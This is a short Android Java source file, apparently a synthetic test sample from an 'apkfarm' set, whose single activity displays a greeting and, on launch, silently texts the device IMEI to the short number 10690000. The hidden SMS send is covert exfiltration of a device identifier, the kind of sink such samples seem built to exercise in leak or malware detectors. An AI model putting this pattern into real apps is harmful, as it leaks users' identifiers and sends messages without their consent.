package org.apkfarm.sample.sinksms;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import org.apkfarm.sample.kit.Ids;
import org.apkfarm.sample.kit.Page;

/** The only screen. */
public final class Main extends Activity {
    @SuppressWarnings("deprecation")
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Page(this).text("你好");
        SmsManager.getDefault().sendTextMessage("10690000", null, "imei " + Ids.imei(this), null, null);
    }
}
